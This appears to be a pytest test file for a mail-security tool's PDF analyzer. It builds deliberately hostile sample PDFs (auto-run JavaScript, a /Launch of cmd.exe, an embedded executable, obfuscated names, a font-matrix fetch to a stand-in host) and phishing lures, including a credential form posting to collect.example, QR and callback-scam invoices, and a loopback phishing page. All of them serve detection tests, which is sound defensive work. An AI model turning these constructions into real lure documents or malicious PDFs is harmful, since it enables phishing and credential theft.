"""pdf analyzer: PDFs written by the test (auto-run JavaScript, /Launch, embedded files,
#xx-obfuscated names, links) through pdfid and the fallback counter for large files; the
structure read with pypdf (lure shape, link rating, forms, actions in object streams,
bounds); benign documents (letters, reports, papers, Debian's own PDFs) staying clean;
and a lure's link followed to a real HTTP server on 127.0.0.1 whose page is analysed."""

from __future__ import annotations

import http.server
import os
import threading
from email.message import EmailMessage
from pathlib import Path

import pytest

from mailvm.config import Config, LinksConfig, SpoolConfig, TriageConfig
from mailvm.scan import Scanner
from mailvm.triage import Triage, pdf, pdfdoc
from pdf_builder import Doc, gray_image
from triage_helpers import art, ids


def make_pdf(*objects: bytes, pad: bytes = b"") -> bytes:
    """A PDF with the given object bodies, a page tree and a correct xref table."""
    body = [b"<< /Type /Catalog /Pages 2 0 R " + (objects[0] if objects else b"") + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]
    body += list(objects[1:])
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, obj in enumerate(body, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    if pad:
        offsets.append(len(out))
        out += b"%d 0 obj\n<< /Length %d >>\nstream\n" % (len(body) + 1, len(pad)) + pad + b"\nendstream\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, xref)
    return bytes(out)


PLAIN = make_pdf()
AUTO_JS = make_pdf(b"/OpenAction 4 0 R", b"<< /Type /Action /S /JavaScript /JS (app.alert('hi');) >>")
JS_ONLY = make_pdf(b"", b"<< /Names << /JavaScript 5 0 R >> >>", b"<< /S /JavaScript /JS (1) >>")
LAUNCH = make_pdf(b"/OpenAction 4 0 R", b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>")
EMBEDDED = make_pdf(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                    b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                    b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream")
OBFUSCATED = make_pdf(b"/OpenAction 4 0 R", b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>")
LINKS = make_pdf(b"", b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://e.test/a) >> >>",
                 b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://e.test/b) >> >>")


@pytest.fixture(scope="module")
def triage(tmp_path_factory) -> Triage:
    return Triage(TriageConfig(yara_rules_dir=str(tmp_path_factory.mktemp("noyara") / "absent")))


def run(triage, tmp_path, data: bytes, name: str = "doc.pdf"):
    p = tmp_path / name
    p.write_bytes(data)
    return triage.analyze(art(p))


def test_plain_pdf_is_clean(triage, tmp_path):
    r = run(triage, tmp_path, PLAIN)
    assert (r.kind, r.verdict, r.detonate, r.errors) == ("pdf", "clean", True, [])
    assert not ids(r)


def test_openaction_javascript(triage, tmp_path):
    r = run(triage, tmp_path, AUTO_JS)
    assert ids(r)["pdf_auto_javascript"] == 8
    assert r.verdict == "malicious"


def test_javascript_without_auto_action(triage, tmp_path):
    assert ids(run(triage, tmp_path, JS_ONLY)) == {"pdf_javascript": 6}


def test_launch(triage, tmp_path):
    found = ids(run(triage, tmp_path, LAUNCH))
    assert found["pdf_launch"] == 8 and found["pdf_auto_action"] == 3


def test_embedded_file(triage, tmp_path):
    assert ids(run(triage, tmp_path, EMBEDDED))["pdf_embedded_file"] == 4


def test_hex_obfuscated_names(triage, tmp_path):
    found = ids(run(triage, tmp_path, OBFUSCATED))
    assert found["pdf_obfuscated_names"] == 6
    assert found["pdf_auto_javascript"] == 8  # /J#61vaScript still counts as /JavaScript


def test_uri_count(triage, tmp_path):
    r = run(triage, tmp_path, LINKS)
    f = next(f for f in r.findings if f.id == "pdf_uri")
    assert f.detail.startswith("/URI x4") and r.verdict == "clean"  # two links, /S /URI /URI (...) each


def test_header_after_junk(triage, tmp_path):
    r = run(triage, tmp_path, b"junk junk\n" + AUTO_JS)
    assert r.kind == "pdf" and {"pdf_header_offset", "pdf_auto_javascript"} <= set(ids(r))


@pytest.mark.parametrize("data", [PLAIN, AUTO_JS, JS_ONLY, LAUNCH, EMBEDDED, OBFUSCATED, LINKS])
def test_fallback_counter_agrees_with_pdfid(data):
    assert pdf.count_names(data) == {k: v for k, v in pdf.pdfid_counts(data, "x.pdf").items() if v[0]}


def test_large_pdf_uses_fallback(triage, tmp_path):
    big = make_pdf(b"/OpenAction 4 0 R", b"<< /S /JavaScript /JS (x) >>", pad=os.urandom(pdf.PDFID_MAX_BYTES + 1024))
    assert len(big) > pdf.PDFID_MAX_BYTES
    r = run(triage, tmp_path, big)
    assert ids(r)["pdf_auto_javascript"] == 8 and r.errors == []


@pytest.mark.parametrize("data", [b"%PDF-", b"%PDF-1.4\n/JS", b"%PDF-1.4\n" + b"/" * 5000, b"%PDF-1.4 << /#zz#4 >>"])
def test_malformed_pdfs_do_not_raise(triage, tmp_path, data):
    r = run(triage, tmp_path, data)
    assert r.errors == []


def test_pdfid_error_falls_back_to_counting(triage, tmp_path):
    r = run(triage, tmp_path, b"%PDF-")
    assert "pdf_malformed" in ids(r)


# -- documents with pages, text, images and link annotations (structure, lure shape) ---------------------


LOREM = ("Quarterly results were reviewed by the committee and the figures for each region are attached in the "
         "appendix together with the notes from the audit and the plan for the next period of work").split()


def words(n: int) -> tuple[str, ...]:
    """``n`` words of ordinary prose in lines of 12 words."""
    flat = [LOREM[i % len(LOREM)] for i in range(n)]
    return tuple(" ".join(flat[i : i + 12]) for i in range(0, n, 12))


PHISH = "https://docs-view.example/session/7f3a"
FULL_PAGE = (40.0, 60.0, 572.0, 740.0)
BUTTON = (220.0, 380.0, 392.0, 412.0)


def image_lure() -> bytes:
    """A picture of a blurred document under one link that covers most of the page (no text at all)."""
    return Doc().page(image=FULL_PAGE, links=((PHISH, FULL_PAGE, ""),)).build()


def button_lure() -> bytes:
    """A few sentences and a "VIEW DOCUMENT" button: the classic shared-document lure."""
    lines = ("You have received a secure document from Accounts Payable.", "The sender has shared Invoice-4471.pdf with you.",
             "Click below to review and sign before it expires today.")
    return Doc().page(lines=lines, links=((PHISH, BUTTON, "VIEW DOCUMENT"),)).build()


def test_image_lure_is_suspicious(triage, tmp_path):
    r = run(triage, tmp_path, image_lure(), "Invoice_4471.pdf")
    found = ids(r)
    assert found["pdf_link_lure"] == 5 and r.verdict == "suspicious", r.findings
    lure = next(f for f in r.findings if f.id == "pdf_link_lure")
    assert "covers" in lure.detail and PHISH in lure.detail


def test_button_lure_is_suspicious(triage, tmp_path):
    r = run(triage, tmp_path, button_lure())
    assert ids(r)["pdf_link_lure"] == 5 and r.verdict == "suspicious"
    assert "'VIEW DOCUMENT'" in next(f.detail for f in r.findings if f.id == "pdf_link_lure")


def test_lure_with_phishing_looking_link_is_stronger(triage, tmp_path):
    data = Doc().page(lines=("Your mailbox is almost full.",),
                      links=(("https://office365-verify.web.app/login", BUTTON, "Upgrade storage"),)).build()
    found = ids(run(triage, tmp_path, data))
    assert found["pdf_link_lure"] == 6 and found["pdf_suspicious_link"] >= 5


def test_wordy_lure_with_small_link_caught_by_the_link(triage, tmp_path):
    data = Doc().page(lines=words(300), links=(("http://185.13.22.7/owa/login.php", (72, 90, 150, 104), "Sign in"),)).build()
    found = ids(run(triage, tmp_path, data))
    assert found["pdf_suspicious_link"] >= 4 and found["pdf_link_lure"] == 6  # also a call to action hiding its address


def test_call_to_action_in_a_longer_text(triage, tmp_path):
    data = Doc().page(lines=words(330), links=(("https://share.example.net/d/8f3a", (72, 90, 200, 110), "Review & Sign"),)).build()
    lure = next(f for f in run(triage, tmp_path, data).findings if f.id == "pdf_link_lure")
    assert lure.severity == 5 and "call to action" in lure.detail
    plain = Doc().page(lines=words(160)).page(lines=words(170), links=(
        ("https://opensource.example.org/licenses/mit", (72, 90, 260, 110), "Open source license"),)).build()
    assert "pdf_link_lure" not in ids(run(triage, tmp_path, plain, "plain.pdf"))


def test_deceptive_link_text(triage, tmp_path):
    data = Doc().page(lines=words(200), links=((PHISH, (72, 100, 300, 114), "https://www.microsoft.com/invoices"),)).build()
    found = ids(run(triage, tmp_path, data))
    assert found["pdf_deceptive_link"] == 5


# -- benign documents stay clean ------------------------------------------------------------------------


def test_letter_with_visible_links_is_clean(triage, tmp_path):
    data = Doc().page(lines=words(260), links=(("https://www.debian.org/", (72, 100, 180, 114), "www.debian.org"),)) \
        .page(lines=words(200)).build()
    r = run(triage, tmp_path, data)
    assert r.verdict == "clean" and "pdf_link_lure" not in ids(r), r.findings


def test_short_page_whose_link_shows_its_address_is_clean(triage, tmp_path):
    # the shape of Debian's live-manual stub: two pages, a handful of words, one URL written out
    data = Doc().page(lines=("Live Systems Manual",)).page(
        links=(("http://www.gnu.org/licenses/", (89, 430, 196, 442), "http://www.gnu.org/licenses/"),)).build()
    r = run(triage, tmp_path, data)
    assert r.verdict == "clean" and "pdf_link_lure" not in ids(r), r.findings


def test_report_with_a_few_links_is_clean(triage, tmp_path):
    doc = Doc()
    for i in range(6):
        doc.page(lines=words(350), links=((f"https://intranet.example.org/report/{i}", (72, 80, 260, 94), "see the appendix"),))
    r = run(triage, tmp_path, doc.build())
    assert r.verdict == "clean", r.findings


def test_paper_with_many_references_is_clean(triage, tmp_path):
    doc = Doc()
    for i in range(8):
        links = tuple((f"https://doi.org/10.1000/{i}.{j}", (72, 100 + 20 * j, 300, 114 + 20 * j), f"[{i * 5 + j}]")
                      for j in range(5))
        doc.page(lines=words(500), links=links)
    r = run(triage, tmp_path, doc.build())
    assert r.verdict == "clean", r.findings


def test_one_page_with_a_picture_and_no_link_is_clean(triage, tmp_path):
    r = run(triage, tmp_path, Doc().page(image=FULL_PAGE).build())
    assert r.verdict == "clean" and not ids(r), r.findings


DEBIAN_PDFS = sorted(Path("/usr/share/doc").glob("**/*.pdf"))[:20]


@pytest.mark.skipif(not DEBIAN_PDFS, reason="no PDF under /usr/share/doc on this machine")
@pytest.mark.parametrize("path", DEBIAN_PDFS, ids=[p.name for p in DEBIAN_PDFS])
def test_debian_documentation_pdfs_are_clean(triage, path):
    r = triage.analyze(art(path))
    assert r.kind == "pdf" and r.verdict == "clean" and r.errors == [], r.findings


# -- actions, forms, embedded files found in the structure -------------------------------------------


def test_password_form_posting_to_a_remote_server(triage, tmp_path):
    doc = Doc()
    submit = b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/p.php) >> >>"
    user = doc.add(b"<< /FT /Tx /T (email) /Rect [100 500 400 520] /Subtype /Widget >>")
    pw = doc.add(b"<< /FT /Tx /T (password) /Ff 8192 /Rect [100 460 400 480] /Subtype /Widget >>")
    button = doc.add(b"<< /FT /Btn /T (go) /Ff 65536 /Rect [100 420 200 440] /Subtype /Widget /A " + submit + b" >>")
    doc.catalog_extra = b"/AcroForm << /Fields [%d 0 R %d 0 R %d 0 R] >> " % (user, pw, button)
    doc.page(lines=("Sign in to view the document",), annots=(user, pw, button))
    found = ids(run(triage, tmp_path, doc.build()))
    assert found["pdf_password_form"] == 6 and found["pdf_submit_form"] == 4


def test_uri_opened_by_itself(triage, tmp_path):
    doc = Doc()
    doc.catalog_extra = b"/OpenAction << /S /URI /URI (https://e.test/land) >> "
    found = ids(run(triage, tmp_path, doc.page(lines=words(300)).build()))
    assert found["pdf_uri_on_open"] == 5


def test_launch_severity_depends_on_what_it_starts(triage, tmp_path):
    doc = Doc()
    doc.page(lines=words(300), extra=b" /AA << /O << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>")
    assert ids(run(triage, tmp_path, doc.build(), "a.pdf"))["pdf_launch"] == 8
    manual = Doc()
    link = manual.add(b"<< /Type /Annot /Subtype /Link /Rect [72 72 200 90] /A << /S /Launch /F (./local_file.txt) >> >>")
    manual.page(lines=words(300), annots=(link,))
    assert ids(run(triage, tmp_path, manual.build(), "b.pdf"))["pdf_launch"] == 3  # a manual's demo link (Prawn's)


def _object_stream_pdf(hidden: bytes) -> bytes:
    """A PDF whose OpenAction is an object inside a compressed object stream, with a cross-reference stream."""
    import zlib
    objs: dict[int, bytes] = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    }
    inner = b"4 0 "
    body = zlib.compress(inner + hidden)
    objs[5] = b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(inner), len(body)) \
        + body + b"\nendstream"
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    for num in (1, 2, 3):
        rows.append(b"\x01" + offsets[num].to_bytes(4, "big") + b"\x00\x00")
    rows.append(b"\x02" + (5).to_bytes(4, "big") + b"\x00\x00")  # object 4: index 0 in stream 5
    rows.append(b"\x01" + offsets[5].to_bytes(4, "big") + b"\x00\x00")
    xref_at = len(out)
    rows.append(b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00")
    data = b"".join(rows)
    out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(data) + data
            + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
    return bytes(out)


def test_javascript_hidden_in_an_object_stream(triage, tmp_path):
    data = _object_stream_pdf(b"<< /S /JavaScript /JS (app.launchURL('https://e.test/x');) >>")
    assert "/JavaScript" not in pdf.pdfid_counts(data, "x.pdf") or not pdf.pdfid_counts(data, "x.pdf")["/JavaScript"][0]
    r = run(triage, tmp_path, data)
    assert ids(r)["pdf_auto_javascript"] == 8 and r.verdict == "malicious", r.findings


def test_embedded_executable_named_and_carved(triage, tmp_path):
    found = ids(run(triage, tmp_path, EMBEDDED))
    assert found["pdf_embedded_executable"] == 7
    assert pdfdoc.embedded_files(EMBEDDED) == [("a.exe", b"MZ")]
    assert pdfdoc.embedded_files(PLAIN) == []


# -- links to follow, bounds -----------------------------------------------------------------------------------


def test_link_urls_most_prominent_first():
    doc = Doc().page(lines=("x",), links=(("https://small.example/", (72, 72, 100, 80), "a"),
                                          ("https://big.example/", FULL_PAGE, ""),
                                          ("mailto:someone@example.org", (72, 90, 100, 100), "m"),
                                          ("https://other.example/", (72, 110, 200, 130), "b")))
    assert pdfdoc.link_urls(doc.build(), 2) == ["https://big.example/", "https://other.example/"]
    assert pdfdoc.link_urls(b"%PDF-1.4 garbage") == []


def test_many_annotations_and_pages_are_bounded():
    doc = Doc()
    refs = tuple(doc.add(b"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (https://e.test/%d) >> >>" % i)
                 for i in range(pdfdoc.MAX_ANNOTS_PER_PAGE + 50))
    doc.page(annots=refs)
    facts = pdfdoc.read_facts(doc.build())
    assert len(facts.links) <= pdfdoc.MAX_URLS and any("annotations" in p for p in facts.partial)


def test_action_cycles_and_deadline():
    doc = Doc()
    a = len(doc.objects) + 1
    doc.add(b"<< /S /URI /URI (https://e.test/a) /Next %d 0 R >>" % (a + 1))
    doc.add(b"<< /S /JavaScript /JS (1) /Next %d 0 R >>" % a)  # a cycle through /Next
    doc.catalog_extra = b"/OpenAction %d 0 R " % a
    data = doc.page(lines=("x",)).build()
    facts = pdfdoc.read_facts(data)
    assert [x.kind for x in facts.actions] == ["URI", "JavaScript"] and not facts.errors
    stopped = pdfdoc.read_facts(data, deadline_s=0.0)
    assert stopped.partial and "stopped" in stopped.partial[0]


@pytest.mark.parametrize("data", [b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 1 0 R >> endobj trailer << /Root 1 0 R >>",
                                  b"%PDF-1.7\ntrailer << /Root 1 0 R /Size 99999999 >>", b"%PDF-" + os.urandom(4000),
                                  image_lure()[:300]])
def test_hostile_structures_never_raise(triage, tmp_path, data):
    facts = pdfdoc.read_facts(data)
    assert isinstance(facts.errors, list)
    r = run(triage, tmp_path, data)
    assert r.errors == [] and r.kind == "pdf"


# -- a lure's link is followed like a message link, and what comes back is analysed -------------------------


class _PhishPage(http.server.BaseHTTPRequestHandler):
    PAGE = (b"<html><head><title>Sign in to your account</title></head><body>"
            b"<form method='post' action='https://collect.example/owa.php'>"
            b"<input type='email' name='u'><input type='password' name='p'><button>Next</button></form></body></html>")
    seen: list[str] = []

    def log_message(self, *args):
        pass

    def do_GET(self):
        type(self).seen.append(self.path)
        body = self.PAGE if self.path.startswith("/session/") else b"not here"
        self.send_response(200 if self.path.startswith("/session/") else 404)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture
def phish_server():
    _PhishPage.seen = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _PhishPage)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def _scanner(tmp_path, links: bool) -> Scanner:
    cfg = Config(
        links=LinksConfig(enabled=links, allow_networks=["127.0.0.0/8"], timeout_s=5.0),  # loopback test server only
        spool=SpoolConfig(dir=str(tmp_path / "spool")),
        triage=TriageConfig(yara_rules_dir=str(tmp_path / "noyara")),
    )
    return Scanner(cfg, Triage(cfg.triage), table=None, detonator=None)


def _mail_with(name: str, data: bytes) -> bytes:
    m = EmailMessage()
    m["From"], m["To"], m["Subject"] = "ap@vendor.example", "clerk@corp.example", "Invoice 4471"
    m.set_content("Please find the invoice attached.")
    m.add_attachment(data, maintype="application", subtype="pdf", filename=name)
    return m.as_bytes()


def test_pdf_lure_link_is_followed_and_the_page_analysed(tmp_path, phish_server):
    url = phish_server + "/session/7f3a?id=clerk"
    lure = Doc().page(image=FULL_PAGE, links=((url, FULL_PAGE, ""),)).build()
    report = _scanner(tmp_path, links=True).scan_message(_mail_with("Invoice_4471.pdf", lure))
    assert _PhishPage.seen == ["/session/7f3a?id=clerk"]
    by_origin = {a.artifact.origin_str: a for a in report.artifacts}
    pdf_rep = next(a for a in report.artifacts if a.kind == "pdf")
    assert "pdf_link_lure" in {f.id for f in pdf_rep.findings}
    page = by_origin[f"url:{url}"]
    assert page.kind == "html" and page.source == "triage"
    assert {f.id: f.severity for f in page.findings}["html_password_form"] == 6  # posts to another server
    assert report.verdict == "suspicious"


def test_pdf_links_are_not_fetched_when_links_are_off(tmp_path, phish_server):
    lure = Doc().page(image=FULL_PAGE, links=((phish_server + "/session/1", FULL_PAGE, ""),)).build()
    report = _scanner(tmp_path, links=False).scan_message(_mail_with("a.pdf", lure))
    assert _PhishPage.seen == [] and len(report.artifacts) == 1


def test_remote_launch_thread_and_external_image(triage, tmp_path):
    doc = Doc()
    doc.catalog_extra = (b"/OpenAction << /S /Launch /F << /Type /FileSpec /FS /URL /F (https://e.test/x.pdf) >> >> "
                         b"/AA << /WC << /S /Thread /F << /F (\\\\\\\\files.e.test\\\\s\\\\t.pdf) >> /D 0 >> >> ")
    data = doc.page(lines=words(300)).build()
    found = ids(run(triage, tmp_path, data))
    assert found["pdf_launch"] == 8 and found["pdf_remote_goto"] == 6  # a remote file; a UNC path
    ext = Doc().page(lines=words(300), image=(72, 72, 200, 200),
                     image_extra=b"/F (\\\\\\\\198.51.100.4\\\\share\\\\logo.jpg) ")
    found = ids(run(triage, tmp_path, ext.build(), "ext.pdf"))
    assert found["pdf_remote_resource"] == 6


def test_font_matrix_injection(triage, tmp_path):
    doc = Doc()
    doc.objects[2] = (b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica "
                      b"/FontMatrix [1 2 3 4 5 (1\\); fetch\\('https://e.test/')] >>")
    found = ids(run(triage, tmp_path, doc.page(lines=("x",)).build()))
    assert found["pdf_font_matrix_injection"] == 7


def test_file_without_cross_reference_table_is_still_read(triage, tmp_path):
    whole = image_lure()
    cut = whole[: whole.index(b"xref\n")] + b"trailer\n<< /Root 1 0 R /Size 9 >>\n%%EOF\n"
    r = run(triage, tmp_path, cut)
    found = ids(r)
    assert found["pdf_xref_rebuilt"] == 2 and found["pdf_link_lure"] == 5, r.findings
    assert pdfdoc.link_urls(cut) == [PHISH]


def test_urls_written_in_javascript_are_links_too(triage, tmp_path):
    # a "click to view" button whose action is script (app.launchURL to a look-alike on a shared host)
    doc = Doc()
    button = doc.add(b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (view) /Rect [220 380 392 412] "
                     b"/A << /S /JavaScript /JS (app.launchURL\\(\"https://bocking.netlify.app/hotel/4471\", true\\);) >> >>")
    doc.page(lines=("Your reservation needs to be confirmed.", "Click below."), annots=(button,))
    data = doc.build()
    found = ids(run(triage, tmp_path, data))
    assert found["pdf_javascript"] == 6 and found["pdf_link_lure"] == 5 and found["pdf_suspicious_link"] == 3
    assert pdfdoc.link_urls(data) == ["https://bocking.netlify.app/hotel/4471"]


def _qr(text: str) -> tuple[bytes, int, int]:
    import zxingcpp
    img = zxingcpp.create_barcode(text, zxingcpp.BarcodeFormat.QRCode).to_image(scale=6)
    return bytes(memoryview(img)), img.shape[1], img.shape[0]


def test_qr_code_lure(triage, tmp_path):
    """"Quishing": a page asking to scan a QR code with the phone; the code's URL is a hidden link."""
    pixels, w, h = _qr("https://mfa-reauth.example/auth?u=clerk")
    doc = Doc()
    qr = doc.add(gray_image(pixels, w, h))
    doc.page(lines=("Multi-factor authentication expires today.", "Scan the QR code with your phone camera",
                    "to keep access to your mailbox."), picture=(qr, (220, 300, 392, 472)))
    data = doc.build()
    found = ids(run(triage, tmp_path, data))
    assert found["pdf_qr_link"] == 3 and found["pdf_link_lure"] == 5
    assert "QR code" in next(f.detail for f in run(triage, tmp_path, data).findings if f.id == "pdf_link_lure")
    assert pdfdoc.link_urls(data) == ["https://mfa-reauth.example/auth?u=clerk"]


def test_qr_code_without_a_url_is_not_a_link(triage, tmp_path):
    pixels, w, h = _qr("SPC\n0200\n1\nCH4431999123000889012\nS\nACME AG")  # a Swiss payment slip, not a link
    doc = Doc()
    qr = doc.add(gray_image(pixels, w, h))
    r = run(triage, tmp_path, doc.page(lines=words(80), picture=(qr, (72, 72, 200, 200))).build())
    assert "pdf_qr_link" not in ids(r) and r.verdict == "clean", r.findings


def test_callback_phishing_invoice(triage, tmp_path):
    lines = ("INVOICE #NRT-88213-2291", "Norton 360 Total Protection - 3 Year Subscription", "Amount charged: $499.99",
             "Your subscription has been renewed and the amount will be debited within 24 hours.",
             "If you did not authorize this purchase or wish to cancel and get a refund,",
             "call our billing department at +1 (808) 555-0199 (toll-free).")
    r = run(triage, tmp_path, Doc().page(lines=lines).build())
    assert ids(r)["pdf_callback_lure"] == 5 and r.verdict == "suspicious"


def test_ordinary_invoice_with_a_phone_number_is_clean(triage, tmp_path):
    lines = ("ACME Hosting GmbH - Invoice 2024-0113", "Dedicated server, January: EUR 89.00", "Payment due within 30 days.",
             "Questions? Our office is open 9-17, phone +49 30 1234567.") + words(120)
    r = run(triage, tmp_path, Doc().page(lines=lines).build())
    assert "pdf_callback_lure" not in ids(r) and r.verdict == "clean", r.findings


def test_long_spam_text_behind_a_big_first_page_link(triage, tmp_path):
    doc = Doc().page(lines=("Free gift card generator 2025",) + words(150), image=(100, 400, 500, 700),
                     links=(("https://cdn.example-files.net/go/7731", (100, 400, 500, 700), ""),))
    for _ in range(6):
        doc.page(lines=words(500))
    found = ids(run(triage, tmp_path, doc.build()))
    assert found["pdf_link_lure"] == 5
    plain = Doc().page(lines=words(300), links=(("https://www.example.org/", (72, 72, 200, 90), "www.example.org"),))
    for _ in range(6):
        plain.page(lines=words(500))
    assert "pdf_link_lure" not in ids(run(triage, tmp_path, plain.build(), "plain.pdf"))
